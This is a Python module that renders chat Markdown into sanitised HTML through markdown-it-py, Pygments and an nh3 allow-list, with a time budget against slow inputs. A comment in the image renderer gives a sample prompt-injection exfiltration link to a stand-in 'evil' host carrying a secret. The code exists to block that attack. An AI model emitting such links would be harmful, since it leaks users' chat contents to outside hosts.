"""Markdown → sanitised HTML for every domain that shows text (messages, ideas, prompts, shares).

Pipeline: markdown-it-py (commonmark + tables + strikethrough, raw HTML off) →
Pygments for fenced code → nh3 on the final HTML. The sanitiser is always the
last step (Open WebUI GHSA-fq3v-xjjx-95rc sanitised before parsing and lost).

Rendering has a budget: markdown-it-py spends tens of microseconds on each "![" or "[" (a
32,000-character "![![![…" took about a second), so once RENDER_BUDGET_SECONDS have passed, the
remaining inline text is shown escaped, with its line breaks, still through the sanitiser. Text that
renders within the budget (everything a person or a model writes) comes out exactly as before.

Nothing here imports Flask: callers store the result next to the Markdown with
``RENDERER_VERSION`` and wrap it in ``Markup`` inside an ``hx-disable`` element.
"""

from __future__ import annotations

import html
import re
import time

import nh3
from markdown_it import MarkdownIt
from markdown_it.token import Token
from pygments import highlight
from pygments.formatters import HtmlFormatter
from pygments.lexers import get_all_lexers, get_lexer_by_name
from pygments.token import STANDARD_TYPES

__all__ = [
    "RENDERER_VERSION",
    "CODE_LANGUAGES",
    "render_markdown_safe",
    "render_plain_safe",
]

# Bump whenever the output for the same input can change (pipeline, nh3 rules,
# Pygments classes), so stored HTML is re-rendered.
RENDERER_VERSION = 1

# Above this size a code block is shown as plain escaped text: highlighting is
# the costliest step and some lexers are super-linear on hostile input.
MAX_HIGHLIGHT_CHARS = 100_000

# Time one render may take before the rest is shown as escaped text (see the module docstring).
RENDER_BUDGET_SECONDS = 0.25

_LANGUAGE_NAME = re.compile(r"[a-z0-9+#-]{1,30}")
# Half of a surrogate pair (JSON can spell "\ud83d") is not a character: UTF-8 cannot encode it.
_LONE_SURROGATE = re.compile("[\ud800-\udfff]")


def _code_languages() -> frozenset[str]:
    """Aliases of Pygments' built-in lexers that are safe to echo as a class."""
    names: set[str] = set()
    for _name, aliases, _patterns, _mimetypes in get_all_lexers(plugins=False):
        names.update(a for a in aliases if _LANGUAGE_NAME.fullmatch(a))
    return frozenset(names)


CODE_LANGUAGES: frozenset[str] = _code_languages()

# Pygments' short CSS classes ("k", "nf", "s2", ...); "" is plain text.
_TOKEN_CLASSES = frozenset(c for c in STANDARD_TYPES.values() if c)
_ALIGN_CLASSES = frozenset({"align-left", "align-center", "align-right"})

# Exactly the tags the Markdown renderer below can emit; nh3's defaults narrowed.
_ALLOWED_TAGS = frozenset({
    "a", "blockquote", "br", "code", "div", "em", "h1", "h2", "h3", "h4", "h5",
    "h6", "hr", "li", "ol", "p", "pre", "s", "span", "strong", "table", "tbody",
    "td", "th", "thead", "tr", "ul",
})

_CLEANER = nh3.Cleaner(
    tags=set(_ALLOWED_TAGS),
    # Dropped together with their content if they ever get this far.
    clean_content_tags={
        "script", "style", "template", "noscript", "iframe", "object", "embed",
        "svg", "math", "textarea", "select", "xmp", "noembed", "noframes",
    },
    # No style, id, data-*, hx-*, on*, target: only these attributes survive.
    attributes={"a": {"href", "title"}, "ol": {"start"}},
    generic_attribute_prefixes=None,
    # class only through this allow-list: Pygments tokens and fixed wrappers.
    allowed_classes={
        "span": set(_TOKEN_CLASSES),
        "div": {"codeblock", "table-wrap"},
        "code": {f"language-{name}" for name in CODE_LANGUAGES},
        "th": set(_ALIGN_CLASSES),
        "td": set(_ALIGN_CLASSES),
    },
    url_schemes={"http", "https", "mailto"},
    # Relative links would point into the app itself (also from /s/<token>).
    url_relative="deny",
    link_rel="noopener noreferrer nofollow",
    strip_comments=True,
)

_FORMATTER = HtmlFormatter(nowrap=True, classprefix="")


def _highlight_code(code: str, info: str) -> str:
    """A fenced/indented code block as HTML; unknown languages stay plain text."""
    words = info.split(maxsplit=1)
    language = words[0].lower() if words else ""
    if language in CODE_LANGUAGES and len(code) <= MAX_HIGHLIGHT_CHARS:
        try:
            lexer = get_lexer_by_name(language, stripnl=False)
            body = highlight(code, lexer, _FORMATTER)
        except Exception:  # any lexer failure (ClassNotFound included) → plain text
            body = None
        if body is not None:
            return (
                f'<div class="codeblock"><pre><code class="language-{language}">'
                f"{body}</code></pre></div>\n"
            )
    return (
        '<div class="codeblock"><pre><code>'
        f"{html.escape(code, quote=False)}</code></pre></div>\n"
    )


def _render_fence(self, tokens, idx, options, env) -> str:
    token = tokens[idx]
    return _highlight_code(token.content, "" if _is_over_budget(env) else token.info)


def _render_code_block(self, tokens, idx, options, env) -> str:
    return _highlight_code(tokens[idx].content, "")


def _render_image(self, tokens, idx, options, env) -> str:
    # Images never load: a prompt-injected ![](https://evil/?q=secret) would
    # leak chat text just by being displayed. Show the alt text instead.
    alt = self.renderInlineAsText(tokens[idx].children or [], options, env)
    return html.escape(alt, quote=False)


def _render_table_open(self, tokens, idx, options, env) -> str:
    return '<div class="table-wrap"><table>\n'


def _render_table_close(self, tokens, idx, options, env) -> str:
    return "</table></div>\n"


def _render_cell_open(self, tokens, idx, options, env) -> str:
    # markdown-it writes alignment as style="text-align:…"; style is never
    # allowed, so turn it into a fixed class.
    token = tokens[idx]
    style = token.attrGet("style") or ""
    align = style.partition("text-align:")[2].strip()
    css_class = f"align-{align}"
    if css_class in _ALIGN_CLASSES:
        return f'<{token.tag} class="{css_class}">'
    return f"<{token.tag}>"


class _OverBudget(Exception):
    """Raised inside markdown-it's inline parser when the render's deadline has passed."""


def _is_over_budget(env) -> bool:
    deadline = env.get("render_deadline") if isinstance(env, dict) else None
    return deadline is not None and time.perf_counter() > deadline


def _with_deadline(rule):
    """An inline rule that first checks the render's deadline (the costly work is in these rules)."""

    def checked(state, *args):
        if _is_over_budget(state.env):
            raise _OverBudget
        return rule(state, *args)

    return checked


def _escaped_inline(content: str) -> list[Token]:
    """Inline text as plain text tokens: escaped when rendered, newlines kept as line breaks."""
    children: list[Token] = []
    for number, line in enumerate(content.split("\n")):
        if number:
            children.append(Token("softbreak", "br", 0))
        children.append(Token("text", "", 0, content=line))
    return children


def _parse_inline_within_budget(state) -> None:
    """markdown-it's core "inline" rule, falling back to escaped text once the deadline passes."""
    for token in state.tokens:
        if token.type != "inline":
            continue
        if not _is_over_budget(state.env):
            children: list[Token] = []
            try:
                state.md.inline.parse(token.content, state.md, state.env, children)
                token.children = children
                continue
            except _OverBudget:
                pass
        token.children = _escaped_inline(token.content)


def _build_markdown() -> MarkdownIt:
    md = MarkdownIt(
        "commonmark",
        # html=False: raw HTML in the input is shown as text, never parsed.
        # breaks=True: a typed newline is a line break (chat, not documents).
        {"html": False, "breaks": True, "linkify": False, "typographer": False},
    ).enable(["table", "strikethrough"])
    md.add_render_rule("fence", _render_fence)
    md.add_render_rule("code_block", _render_code_block)
    md.add_render_rule("image", _render_image)
    md.add_render_rule("table_open", _render_table_open)
    md.add_render_rule("table_close", _render_table_close)
    md.add_render_rule("th_open", _render_cell_open)
    md.add_render_rule("td_open", _render_cell_open)
    md.core.ruler.at("inline", _parse_inline_within_budget)
    # "text" only skips ordinary characters; every other rule is where time can go.
    for ruler in (md.inline.ruler, md.inline.ruler2):
        for rule in list(ruler.__rules__):
            if rule.name != "text":
                ruler.at(rule.name, _with_deadline(rule.fn))
    return md


_MARKDOWN = _build_markdown()


def render_markdown_safe(text: str | None) -> str:
    """Render Markdown to HTML that is safe to insert into a page as-is."""
    if not text:
        return ""
    env = {"render_deadline": time.perf_counter() + RENDER_BUDGET_SECONDS}
    return _CLEANER.clean(_MARKDOWN.render(_LONE_SURROGATE.sub("\ufffd", text), env))


def render_plain_safe(text: str | None) -> str:
    """Escape text for HTML, keeping its line breaks (for streaming previews)."""
    if not text:
        return ""
    text = _LONE_SURROGATE.sub("\ufffd", text)
    escaped = html.escape(text.replace("\r\n", "\n").replace("\r", "\n"), quote=True)
    return escaped.replace("\n", "<br>\n")
